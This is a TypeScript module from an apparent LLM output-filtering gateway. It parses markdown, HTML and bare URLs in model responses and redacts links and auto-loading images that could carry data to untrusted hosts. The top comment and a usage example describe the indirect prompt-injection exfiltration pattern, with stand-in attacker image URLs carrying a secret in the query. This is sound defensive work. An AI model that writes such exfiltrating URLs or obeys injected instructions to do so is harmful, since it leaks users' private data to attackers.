/**
 * Links and images in a response that can carry data out. The classic indirect prompt
 * injection ends with the model writing `![x](https://evil.example/p?q=<secret>)`: the chat UI
 * loads the image without a click and the query string reaches the attacker (OWASP LLM02
 * sensitive information disclosure, LLM05 improper output handling).
 *
 * A URL is a risk when its host is not trusted and it is either an image (loaded without a
 * click, so the request itself is the leak, whatever the URL holds) or carries data: userinfo,
 * a query, a fragment, or a host label / path segment that looks encoded. Private, loopback
 * and link-local hosts are always a risk: the browser that renders the answer sits inside a
 * network the gateway cannot see.
 *
 * Markdown is parsed as CommonMark does for the parts that decide where a URL starts and ends
 * (bracket matching, destinations with nested parentheses, titles, reference definitions), and
 * URLs are judged by the WHATWG parser the browser uses, so `https://ok.com@evil.com`,
 * `HTTPS:\\EVIL.COM` and IDN hosts resolve to the host the browser would contact.
 */
import { hostAllowed, isPrivateHost } from "../firewall/images";
import type { OutputAction, OutputFinding, OutputScanner, ScanResult } from "./types";
import { replaceSpans } from "../util/spans";

export interface LinkScannerOptions {
  action: OutputAction;
  /** Host names or `*.suffix`; `*` is any public host. Empty: no host is trusted. */
  allowedHosts: readonly string[];
}

/** An unclosed `[` stops being held after this many characters: prose uses lone brackets. */
const MAX_HELD_LABEL = 200;
/** A reference definition's label is at most 999 characters (CommonMark 0.31, 4.7). */
const MAX_DEF_LINE = 1200;
/** An unclosed `<img`/`<a` tag longer than this is released (and judged as it stands). */
const MAX_HELD_TAG = 1200;
/** cmark's limit on nested parentheses in a destination; also what keeps parsing linear. */
const MAX_PAREN_DEPTH = 32;
const MAX_TITLE = 4096;

/** Tags whose URL attributes the browser fetches without a click. */
const AUTOLOAD_TAGS = new Set(["img", "image", "source", "video", "audio", "iframe", "embed", "object", "input", "link", "script", "track", "use", "body", "table", "td", "base", "picture", "svg"]);
const CLICK_TAGS = new Set(["a", "area", "form"]);
const URL_ATTRS = new Set(["src", "srcset", "href", "xlink:href", "poster", "data", "background", "action", "formaction", "lowsrc", "dynsrc"]);
const TAG_RE = /<([a-z]+)(?=[\s/>]|$)/gi;

/**
 * Without one of these characters a text holds no markdown link, reference definition, HTML
 * tag or absolute / scheme-relative URL (a destination without ":" or "/" is relative to the
 * page and carries nothing away).
 */
const LINK_CHARS = /[[\]<:/\\]/;
/** The same, plus what can still open a construct at the end of a stream's held text. */
const HOLD_CHARS = /[[\]<!:/\\]/;
const PARTIAL_SCHEME = /h(?:t(?:t(?:ps?)?)?)?$/i;

const IMAGE_REPLACEMENT = "[image removed]";
const LINK_REPLACEMENT = "[link removed]";

/**
 * @example
 * const s = linkScanner({ action: "redact", allowedHosts: ["*.example.com"] });
 * s.apply("![x](https://evil.test/p?q=secret)", "").text // "[image removed]"
 */
export function linkScanner(opts: LinkScannerOptions): OutputScanner {
  const allowed = opts.allowedHosts.map(normalizePattern);
  const active = opts.action !== "allow";
  const risky = (raw: string, image: boolean): boolean => isRiskyUrl(raw, image, allowed);
  // A URL the previous release ended inside (the guard force-released a long one).
  let open: OpenUrl | null = null;
  return {
    holdFrom(pending: string): number {
      return active ? linkHoldFrom(pending) : pending.length;
    },
    apply(text: string, before: string): ScanResult {
      if (!active) return { text, findings: [] };
      // Most stream deltas are words: no link construct and no URL can be in them.
      if (open === null && !LINK_CHARS.test(text)) return { text, findings: [] };
      // In text order, so a stream reports the same sequence however it was cut.
      const found = findRiskyLinks(text, before, risky, open);
      open = found.open;
      const spans = found.spans.sort((a, b) => (a.edits[0]?.start ?? 0) - (b.edits[0]?.start ?? 0));
      const findings: OutputFinding[] = spans.filter((s) => s.silent !== true).map((s) => ({ kind: "link", type: s.image ? "IMAGE_LINK" : "LINK", action: opts.action }));
      if (opts.action !== "redact" || spans.length === 0) return { text, findings };
      return { text: applyEdits(text, spans.flatMap((s) => s.edits)), findings };
    },
  };
}

/** Allowlist entries compared in the form `URL.hostname` gives: lowercase, punycode. */
function normalizePattern(pattern: string): string {
  const wild = pattern.startsWith("*.");
  const name = wild ? pattern.slice(2) : pattern;
  if (name === "*") return "*";
  let host = name.toLowerCase();
  try {
    host = new URL(`http://${name}/`).hostname;
  } catch {
    // Not a host name the URL parser accepts: it can still match literally.
  }
  host = host.replace(/\.$/, "");
  return wild ? `*.${host}` : host;
}

/**
 * Whether a URL as written in a response leaks or reaches somewhere it must not. Anything the
 * browser would resolve against the page (a relative path) or not fetch over HTTP is no risk.
 * `allowed` is in `URL.hostname` form (lowercase, punycode), as `linkScanner` prepares it.
 */
export function isRiskyUrl(raw: string, image: boolean, allowed: readonly string[]): boolean {
  // The URL parser drops tabs and newlines anywhere and C0 controls or spaces at the ends.
  let s = trimC0(raw.replace(/[\t\n\r]/g, ""));
  // Scheme-relative (`//host/x`, `\\host\x`) takes the page's scheme.
  if (/^[\\/]{2}/.test(s)) s = `https:${s}`;
  // Only http(s) reaches a host; checked first because a failed parse is slow.
  if (!/^https?:/i.test(s)) return false;
  let url: URL;
  try {
    url = new URL(s);
  } catch {
    return false;
  }
  if (url.protocol !== "http:" && url.protocol !== "https:") return false;
  const host = url.hostname.toLowerCase().replace(/\.$/, "");
  if (host === "" || isPrivateHost(host)) return true;
  if (hostAllowed(host, allowed)) return false;
  return image || carriesData(url, host);
}

function trimC0(s: string): string {
  let a = 0;
  let b = s.length;
  while (a < b && s.charCodeAt(a) <= 0x20) a++;
  while (b > a && s.charCodeAt(b - 1) <= 0x20) b--;
  return s.slice(a, b);
}

function carriesData(url: URL, host: string): boolean {
  if (url.username !== "" || url.password !== "" || url.search.length > 1 || url.hash.length > 1) return true;
  // DNS is case-insensitive, so data in a label is lowercase: letters and digits mixed is enough.
  for (const label of host.split(".")) if (looksEncoded(label) || (/^[a-z0-9-]{24,}$/.test(label) && /\d/.test(label) && /[a-z]/.test(label))) return true;
  for (const seg of url.pathname.split("/")) if (looksEncoded(seg)) return true;
  return false;
}

/**
 * A heuristic, not a proof: an attacker can always spell data as words. It catches what
 * injected instructions usually ask for (base64, hex, percent-encoding) while leaving slugs
 * such as `/blog/how-to-install-python-3-12` alone.
 */
function looksEncoded(seg: string): boolean {
  if (seg.length < 24) return false;
  if (seg.length >= 100) return true;
  if (/[0-9a-f]{24,}/i.test(seg) || /[a-z0-9]{32,}/i.test(seg)) return true;
  if ((seg.match(/%[0-9a-f]{2}/gi)?.length ?? 0) >= 8) return true;
  for (const run of seg.match(/[A-Za-z0-9+=_-]{24,}/g) ?? []) {
    if (/[0-9]/.test(run) && /[a-z]/.test(run) && /[A-Z]/.test(run)) return true;
  }
  return false;
}

interface Edit {
  start: number;
  end: number;
  replacement: string;
}

interface RiskySpan {
  image: boolean;
  edits: Edit[];
  /** Only an edit, already reported. */
  silent?: boolean;
}

type Judge = (raw: string, image: boolean) => boolean;

/**
 * A URL cut by a forced release: its head is already sent, so what follows it is judged
 * together with the head, and removed when the whole is a risk (the host then receives the
 * head alone, without the data that followed).
 */
interface OpenUrl {
  head: string;
  image: boolean;
  /** The head was already neutralised: the rest is dropped without a second finding. */
  removed: boolean;
  /** A markdown destination also ends at `)`. */
  markdown: boolean;
}

/** Longest URL head remembered across releases; longer URLs are judged on this much. */
const MAX_OPEN_HEAD = 8192;

/** Every risky construct in `text`, each with the edits that neutralise it. */
function findRiskyLinks(text: string, before: string, risky: Judge, open: OpenUrl | null): { spans: RiskySpan[]; open: OpenUrl | null } {
  const out: RiskySpan[] = [];
  // Ranges already judged as part of a construct; a bare-URL pass must not judge them again.
  const covered: Array<[number, number]> = [];
  let nextOpen: OpenUrl | null = null;

  if (open !== null) {
    const stop = open.markdown ? /[\s<>"`)]/ : BARE_STOP;
    let e = 0;
    while (e < text.length && !stop.test(text[e] as string)) e++;
    const head = open.head + text.slice(0, e);
    const removed = open.removed || risky(head, open.image);
    if (removed && e > 0) {
      const replacement = open.removed ? "" : open.image ? IMAGE_REPLACEMENT : LINK_REPLACEMENT;
      const edit = { start: 0, end: e, replacement };
      // Reported once per URL: when the head was already removed, this is only cleanup.
      if (open.removed) out.push({ image: open.image, edits: [edit], silent: true });
      else out.push({ image: open.image, edits: [edit] });
    }
    covered.push([0, e]);
    if (e === text.length) nextOpen = { ...open, head: head.slice(0, MAX_OPEN_HEAD), removed };
  }

  for (const tag of scanTags(text)) {
    covered.push([tag.start, tag.end]);
    const autoload = AUTOLOAD_TAGS.has(tag.name);
    if (!autoload && !CLICK_TAGS.has(tag.name)) continue;
    const urls = tag.attrs.filter(([name]) => URL_ATTRS.has(name)).flatMap(([name, value]) => (name === "srcset" ? srcsetUrls(value) : [value]));
    if (!urls.some((u) => risky(decodeHtml(u), autoload))) continue;
    out.push({ image: autoload, edits: [{ start: tag.start, end: tag.end, replacement: autoload ? IMAGE_REPLACEMENT : "" }] });
  }

  for (const def of scanDefinitions(text, before)) {
    covered.push([def.destStart, def.destEnd]);
    // `![x][ref]` may use the definition anywhere in the answer, possibly in text already
    // sent: judged as strictly as an image.
    if (risky(decodeMarkdown(def.dest), true)) out.push({ image: true, edits: [{ start: def.start, end: def.destEnd, replacement: LINK_REPLACEMENT }] });
  }

  const inline = scanInline(text);
  if (inline.cut !== undefined && (open === null || inline.cut.labelEnd >= (covered[0]?.[1] ?? 0))) {
    // The text ends inside a destination: only a forced release (or a truncated response)
    // does that. The part so far is judged as an image could be, since data may follow.
    const { opener, labelEnd } = inline.cut;
    const image = opener < 0 || (opener > 0 && text[opener - 1] === "!");
    const partial = text.slice(labelEnd + 2).trimStart().replace(/^</, "").split(/\s/)[0] ?? "";
    covered.push([labelEnd, text.length]);
    const decoded = decodeMarkdown(partial);
    if (hostComplete(decoded) && risky(decoded, true)) {
      const start = opener < 0 ? labelEnd : image ? opener - 1 : opener;
      out.push({ image, edits: [{ start, end: text.length, replacement: opener < 0 ? `] ${IMAGE_REPLACEMENT}` : image ? IMAGE_REPLACEMENT : LINK_REPLACEMENT }] });
      nextOpen = { head: partial, image: true, removed: true, markdown: true };
    } else {
      nextOpen = { head: partial, image: true, removed: false, markdown: true };
    }
  }
  for (const link of inline.links) {
    covered.push([link.destStart, link.destEnd]);
    // A `](` whose `[` is not in this text was opened in text already released: it may have
    // been `![`, so it is judged as an image.
    const image = link.opener < 0 || link.image;
    if (!risky(decodeMarkdown(text.slice(link.destStart, link.destEnd)), image)) continue;
    const edits: Edit[] =
      link.opener < 0
        ? [{ start: link.labelEnd, end: link.end, replacement: `] ${image ? IMAGE_REPLACEMENT : LINK_REPLACEMENT}` }]
        : link.image
          ? [{ start: link.opener - 1, end: link.end, replacement: IMAGE_REPLACEMENT }]
          : [
              { start: link.opener, end: link.opener + 1, replacement: "" },
              { start: link.labelEnd, end: link.end, replacement: "" },
            ];
    out.push({ image, edits });
  }

  covered.sort((a, b) => a[0] - b[0]);
  for (const bare of scanBare(text, covered)) {
    // A URL cut inside its host is judged once the host is whole, with what follows it,
    // unless nothing more can make it safe (userinfo, an address literal).
    const deferred = bare.open && !hostComplete(bare.url) && !/@|^https?:[\\/]*(?:\[.*\]|\d+\.\d+\.\d+\.\d+)$/i.test(bare.url);
    const isRisky = !deferred && risky(bare.url, false);
    if (isRisky) out.push({ image: false, edits: [{ start: bare.start, end: bare.end, replacement: LINK_REPLACEMENT }] });
    if (bare.open) nextOpen = { head: bare.head, image: false, removed: isRisky, markdown: false };
  }
  return { spans: out, open: nextOpen };
}

/**
 * Applies edits that are nested or disjoint (constructs nest: an image inside a link's text).
 * An edit inside one already applied is dropped; one that crosses it widens it, so a
 * malformed overlap removes more, never less.
 */
function applyEdits(text: string, edits: Edit[]): string {
  edits.sort((a, b) => a.start - b.start || b.end - a.end);
  const kept: Edit[] = [];
  for (const e of edits) {
    const last = kept[kept.length - 1];
    if (last !== undefined && e.start < last.end) {
      if (e.end > last.end) last.end = e.end;
      continue;
    }
    kept.push({ ...e });
  }
  return replaceSpans(text, kept, (e) => e.replacement);
}

// ---- Markdown inline links and images ----

interface InlineLink {
  /** Index of the matching `[`, or -1 when it is not in this text. */
  opener: number;
  image: boolean;
  /** Index of the `]` of `](`. */
  labelEnd: number;
  destStart: number;
  destEnd: number;
  /** Index after the closing `)`. */
  end: number;
}

type DestParse = { kind: "ok"; destStart: number; destEnd: number; end: number } | { kind: "incomplete" } | { kind: "invalid" };

/**
 * Brackets are matched with one stack pass (the nearest open `[` wins, as in CommonMark), so
 * the work is linear however many `[` the text holds.
 */
function scanInline(text: string): { links: InlineLink[]; cut?: { opener: number; labelEnd: number } } {
  const links: InlineLink[] = [];
  let cut: { opener: number; labelEnd: number } | undefined;
  const stack: number[] = [];
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 0x5c) {
      i++;
    } else if (c === 0x5b) {
      stack.push(i);
    } else if (c === 0x5d) {
      const opener = stack.pop() ?? -1;
      if (text.charCodeAt(i + 1) !== 0x28) continue;
      const d = parseDestination(text, i + 2);
      if (d.kind === "incomplete") cut ??= { opener, labelEnd: i };
      if (d.kind !== "ok") continue;
      const image = opener > 0 && text.charCodeAt(opener - 1) === 0x21 && !escaped(text, opener - 1);
      links.push({ opener, image, labelEnd: i, destStart: d.destStart, destEnd: d.destEnd, end: d.end });
    }
  }
  return cut === undefined ? { links } : { links, cut };
}

/** Whether the character at `i` is backslash-escaped: an odd run of backslashes before it (in `\\![x](u)` the "!" is not). */
function escaped(text: string, i: number): boolean {
  let k = i;
  while (k > 0 && text.charCodeAt(k - 1) === 0x5c) k--;
  return (i - k) % 2 === 1;
}

/** Spaces or tabs and at most one line ending (CommonMark 6.3); -1 at a blank line. */
function skipSpace(text: string, i: number): number {
  let newline = false;
  while (i < text.length) {
    const c = text[i];
    if (c === " " || c === "\t") i++;
    else if (c === "\n" || c === "\r") {
      if (newline) return -1;
      newline = true;
      i += c === "\r" && text[i + 1] === "\n" ? 2 : 1;
    } else break;
  }
  return i;
}

/** The destination, optional title and `)` of an inline link, starting after `](`. */
function parseDestination(text: string, from: number): DestParse {
  const n = text.length;
  let i = skipSpace(text, from);
  if (i < 0) return { kind: "invalid" };
  if (i >= n) return { kind: "incomplete" };
  let destStart = i;
  let destEnd = i;
  if (text[i] === "<") {
    let j = i + 1;
    while (j < n && text[j] !== ">" && text[j] !== "<" && text[j] !== "\n") j += text[j] === "\\" ? 2 : 1;
    if (j >= n) return { kind: "incomplete" };
    if (text[j] !== ">") return { kind: "invalid" };
    destStart = i + 1;
    destEnd = j;
    i = j + 1;
  } else if (text[i] !== ")") {
    let depth = 0;
    let j = i;
    for (; j < n; j++) {
      const c = text.charCodeAt(j);
      if (c === 0x5c) j++;
      else if (c <= 0x20) break;
      else if (c === 0x28) {
        if (++depth > MAX_PAREN_DEPTH) return { kind: "invalid" };
      } else if (c === 0x29) {
        if (depth === 0) break;
        depth--;
      }
    }
    if (j >= n) return { kind: "incomplete" };
    destEnd = j;
    i = j;
  }
  const afterDest = i;
  i = skipSpace(text, i);
  if (i < 0) return { kind: "invalid" };
  if (i >= n) return { kind: "incomplete" };
  if (text[i] === ")") return { kind: "ok", destStart, destEnd, end: i + 1 };
  const q = text[i];
  if (i === afterDest || (q !== '"' && q !== "'" && q !== "(")) return { kind: "invalid" };
  const close = q === "(" ? ")" : q;
  let j = i + 1;
  for (; j < n && text[j] !== close; j += text[j] === "\\" ? 2 : 1) {
    if ((q === "(" && text[j] === "(") || j - i > MAX_TITLE) return { kind: "invalid" };
  }
  if (j >= n) return { kind: "incomplete" };
  i = skipSpace(text, j + 1);
  if (i < 0) return { kind: "invalid" };
  if (i >= n) return { kind: "incomplete" };
  return text[i] === ")" ? { kind: "ok", destStart, destEnd, end: i + 1 } : { kind: "invalid" };
}

// ---- Reference definitions: `[ref]: url "title"` ----

const DEF_RE = /^ {0,3}\[((?:[^[\]\\\n]|\\.){1,999})\]:[ \t]*(?:\r?\n)?[ \t]*(<[^<>\n]*>|[^\s<]\S*)/gm;

interface Definition {
  start: number;
  dest: string;
  destStart: number;
  destEnd: number;
}

function scanDefinitions(text: string, before: string): Definition[] {
  const defs: Definition[] = [];
  const atLineStart = before === "" || before.endsWith("\n");
  for (const m of text.matchAll(DEF_RE)) {
    if (m.index === 0 && !atLineStart) continue;
    const raw = m[2] ?? "";
    const destEnd = m.index + m[0].length;
    const dest = raw.startsWith("<") ? raw.slice(1, -1) : raw;
    defs.push({ start: m.index + m[0].indexOf("["), dest, destStart: destEnd - raw.length, destEnd });
  }
  return defs;
}

// ---- HTML tags ----

interface Tag {
  name: string;
  start: number;
  /** Index after `>`, or the text's end for a tag that is not closed yet. */
  end: number;
  attrs: Array<[string, string]>;
}

/**
 * The attribute part of the HTML tokenizer (WHATWG HTML 13.2.5.32-40): quotes only matter
 * after `=`, so `<img alt=">" src=...>` is one tag.
 */
function scanTags(text: string): Tag[] {
  const tags: Tag[] = [];
  let resumeAt = 0;
  for (const m of text.matchAll(TAG_RE)) {
    if (m.index < resumeAt) continue;
    const tag = readTag(text, m.index, (m[1] ?? "").toLowerCase(), m.index + m[0].length);
    tags.push(tag);
    resumeAt = tag.end;
  }
  return tags;
}

function readTag(text: string, start: number, name: string, from: number): Tag {
  const n = text.length;
  const attrs: Array<[string, string]> = [];
  let i = from;
  for (;;) {
    while (i < n && (isHtmlSpace(text.charCodeAt(i)) || text[i] === "/")) i++;
    if (i >= n) return { name, start, end: n, attrs };
    if (text[i] === ">") return { name, start, end: i + 1, attrs };
    const nameStart = i;
    i++;
    while (i < n && !isHtmlSpace(text.charCodeAt(i)) && text[i] !== "/" && text[i] !== ">" && text[i] !== "=") i++;
    const attr = text.slice(nameStart, i).toLowerCase();
    while (i < n && isHtmlSpace(text.charCodeAt(i))) i++;
    if (text[i] !== "=") {
      attrs.push([attr, ""]);
      continue;
    }
    i++;
    while (i < n && isHtmlSpace(text.charCodeAt(i))) i++;
    const q = text[i];
    if (q === '"' || q === "'") {
      const close = text.indexOf(q, i + 1);
      attrs.push([attr, text.slice(i + 1, close < 0 ? n : close)]);
      if (close < 0) return { name, start, end: n, attrs };
      i = close + 1;
    } else {
      const valueStart = i;
      while (i < n && !isHtmlSpace(text.charCodeAt(i)) && text[i] !== ">") i++;
      attrs.push([attr, text.slice(valueStart, i)]);
    }
  }
}

/** Tab, line feed, form feed, carriage return, space (WHATWG HTML "ASCII whitespace"). */
function isHtmlSpace(c: number): boolean {
  return c === 0x20 || c === 0x09 || c === 0x0a || c === 0x0c || c === 0x0d;
}

function srcsetUrls(value: string): string[] {
  return value.split(",").map((c) => c.trim().split(/\s+/)[0] ?? "");
}

// ---- Bare URLs ----

const SCHEME_RE = /https?:/gi;
const BARE_STOP = /[\s<>"`]/;
/** GFM autolink extension: trailing punctuation is not part of the URL. */
const TRAILING = /[.,:;!?*_~'"([]$/;

/** Whether a URL's host is followed by something, so no more text can change the host. */
function hostComplete(url: string): boolean {
  return /^[\\/]*[^\\/?#]+[\\/?#]/.test(url.trim().replace(/^[a-z][a-z0-9+.-]*:/i, ""));
}

interface BareUrl {
  start: number;
  end: number;
  url: string;
  /** Runs to the end of the text: more of it may follow. */
  open: boolean;
  head: string;
}

function scanBare(text: string, covered: ReadonlyArray<[number, number]>): BareUrl[] {
  const out: BareUrl[] = [];
  let c = 0;
  let resumeAt = 0;
  for (const m of text.matchAll(SCHEME_RE)) {
    const start = m.index;
    if (start < resumeAt) continue;
    while (c < covered.length && (covered[c]?.[1] ?? 0) <= start) c++;
    const cover = covered[c];
    if (cover !== undefined && cover[0] <= start) continue;
    let end = start + m[0].length;
    const limit = cover?.[0] ?? text.length;
    while (end < limit && !BARE_STOP.test(text[end] as string)) end++;
    resumeAt = end;
    const open = end === text.length;
    // What may continue in the next release keeps its trailing `.`: `/a.` + `png`.
    const head = text.slice(start, end);
    end = trimTrailing(text, start, end);
    if (end === start + m[0].length && !open) continue;
    // `<https://...>` is a CommonMark autolink: the brackets go with it.
    const wrapped = text[start - 1] === "<" && text[end] === ">";
    out.push({ start: wrapped ? start - 1 : start, end: wrapped ? end + 1 : end, url: text.slice(start, end), open, head });
  }
  return out;
}

function trimTrailing(text: string, start: number, end: number): number {
  for (;;) {
    const last = text[end - 1] as string;
    if (end > start && TRAILING.test(last)) end--;
    else if (end > start && (last === ")" || last === "]") && !balanced(text.slice(start, end), last)) end--;
    else return end;
  }
}

function balanced(s: string, close: string): boolean {
  const open = close === ")" ? "(" : "[";
  let n = 0;
  for (const ch of s) n += ch === open ? 1 : ch === close ? -1 : 0;
  return n >= 0;
}

// ---- Decoding what the renderer decodes before the URL parser sees it ----

const NAMED_ENTITIES: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', apos: "'", colon: ":", sol: "/", bsol: "\\", period: ".", commat: "@", quest: "?", num: "#", equals: "=", percnt: "%", lpar: "(", rpar: ")", tab: "\t", newline: "\n" };

function decodeHtml(s: string): string {
  return s.replace(/&(?:#(\d{1,7})|#x([0-9a-f]{1,6})|([a-z]{2,8}));?/gi, (all, dec?: string, hex?: string, name?: string) => {
    if (name !== undefined) return NAMED_ENTITIES[name.toLowerCase()] ?? all;
    const cp = dec !== undefined ? Number(dec) : parseInt(hex ?? "", 16);
    return cp > 0 && cp <= 0x10ffff ? String.fromCodePoint(cp) : all;
  });
}

/** Backslash escapes of ASCII punctuation, then entities (CommonMark 2.4, 2.5). */
function decodeMarkdown(s: string): string {
  return decodeHtml(s.replace(/\\([!-/:-@[-`{-~])/g, "$1"));
}

// ---- Holding a stream's tail ----

/**
 * The earliest index of `pending` from which more text could still complete a construct
 * that `findRiskyLinks` would judge differently once complete.
 */
export function linkHoldFrom(pending: string): number {
  const n = pending.length;
  if (!HOLD_CHARS.test(pending)) {
    // Fast path for plain words (most of a stream): only a trailing "h", "ht" ... "https"
    // can still become something, the start of a bare URL's scheme.
    const partial = PARTIAL_SCHEME.exec(pending.length > 5 ? pending.slice(-5) : pending);
    return partial === null ? n : n - partial[0].length;
  }
  let hold = n;
  const at = (i: number): void => {
    // Backslashes before a held construct stay with it: `\![x](…)` is a link after an
    // escaped "!", not an image, and only a scan that sees both reads it so.
    while (i > 0 && pending.charCodeAt(i - 1) === 0x5c) i--;
    if (i < hold) hold = Math.max(0, i);
  };

  // Markdown: a `[` that is not closed yet, or whose `](...)` is not finished.
  const stack: number[] = [];
  // End of the last finished construct: a URL inside it is not a bare URL still growing.
  let settled = 0;
  for (let i = 0; i < n; i++) {
    const c = pending.charCodeAt(i);
    if (c === 0x5c) {
      if (i === n - 1) at(i);
      i++;
    } else if (c === 0x5b) stack.push(i);
    else if (c === 0x5d) {
      const opener = stack.pop() ?? i;
      const startOf = opener > 0 && pending[opener - 1] === "!" ? opener - 1 : opener;
      if (i === n - 1) at(startOf);
      else if (pending[i + 1] === "(") {
        const d = parseDestination(pending, i + 2);
        if (d.kind === "incomplete") at(startOf);
        else if (d.kind === "ok") settled = Math.max(settled, d.end);
      }
    }
  }
  for (const o of stack) {
    if (n - o <= MAX_HELD_LABEL) {
      at(o > 0 && pending[o - 1] === "!" ? o - 1 : o);
      break;
    }
  }
  if (pending.endsWith("!")) at(n - 1);

  // A reference definition still being written on the last line (its URL on the next one).
  const lineStart = pending.lastIndexOf("\n", n - 1) + 1;
  const prevStart = lineStart > 0 ? pending.lastIndexOf("\n", lineStart - 2) + 1 : -1;
  const line = pending.slice(lineStart);
  if (n - lineStart <= MAX_DEF_LINE && /^ {0,3}\[(?:[^[\]\\\n]|\\.)*(?:\\|\](?::[ \t]*\S*)?)$/.test(line)) at(lineStart);
  else if (n - lineStart <= MAX_HELD_LABEL && /^ {0,3}\[(?:[^[\]\\\n]|\\.)*$/.test(line)) at(lineStart);
  if (prevStart >= 0 && /^ {0,3}\[(?:[^[\]\\\n]|\\.)+\]:[ \t]*\r?\n[ \t]*\S*$/.test(pending.slice(prevStart))) at(prevStart);

  // An HTML tag not closed yet, or a `<` that may still become one.
  for (const tag of scanTags(pending)) {
    if (!AUTOLOAD_TAGS.has(tag.name) && !CLICK_TAGS.has(tag.name)) continue;
    if (tag.end === n && n - tag.start <= MAX_HELD_TAG) at(tag.start);
    else settled = Math.max(settled, tag.end);
  }
  const lt = pending.lastIndexOf("<");
  if (lt >= 0 && /^<[a-z]*$/i.test(pending.slice(lt))) {
    const partial = pending.slice(lt + 1).toLowerCase();
    if ([...AUTOLOAD_TAGS, ...CLICK_TAGS].some((t) => t.startsWith(partial))) at(lt);
  }

  // A bare URL that has not ended (nothing after its scheme has stopped it yet), or the
  // start of a scheme. Only the last unbroken run is looked at, so this stays linear.
  let runStart = n;
  while (runStart > settled && !BARE_STOP.test(pending[runStart - 1] as string)) runStart--;
  const run = pending.slice(runStart);
  const scheme = /https?:/i.exec(run);
  if (scheme !== null) {
    const s = runStart + scheme.index;
    at(pending[s - 1] === "<" ? s - 1 : s);
  } else {
    const partial = /h(?:t(?:t(?:ps?)?)?)?$/i.exec(run.slice(-5));
    if (partial !== null) at(n - partial[0].length - (pending[n - partial[0].length - 1] === "<" ? 1 : 0));
  }
  return hold;
}
